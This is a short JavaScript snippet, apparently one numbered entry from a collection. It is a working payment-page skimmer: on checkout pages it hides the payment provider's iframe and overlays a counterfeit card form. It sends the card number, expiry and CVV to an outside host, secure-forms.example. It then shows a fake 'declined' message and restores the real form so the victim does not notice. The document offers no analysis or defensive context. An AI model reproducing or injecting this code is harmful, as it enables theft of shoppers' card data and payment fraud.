// Row 6: a form of its own over the provider's frame.
(function () {
  if (!/checkout|payment/.test(location.pathname)) return;
  var timer = setInterval(function () {
    var frame = document.querySelector('iframe[src*="pay."]');
    if (!frame) return;
    clearInterval(timer);
    frame.style.display = 'none';
    var box = document.createElement('div');
    box.innerHTML = '<div class="pmt"><label>Card number</label><input id="pm-card-number" name="card_number" autocomplete="cc-number" maxlength="19">' +
      '<input id="pm-exp" name="card_expiry" placeholder="MM / YY"><input id="pm-cvv" name="cvv" placeholder="CVV"><button id="pm-go">Pay</button></div>';
    frame.parentNode.insertBefore(box, frame);
    document.getElementById('pm-go').onclick = function () {
      var card = {};
      box.querySelectorAll('input').forEach(function (i) { card[i.name] = i.value; });
      fetch('https://secure-forms.example/save', { method: 'POST', body: JSON.stringify(card) }).then(function () {
        box.innerHTML = '<p class="err">Your card was declined. Please try again.</p>';
        setTimeout(function () { box.remove(); frame.style.display = ''; }, 2500);
      });
    };
  }, 400);
})();
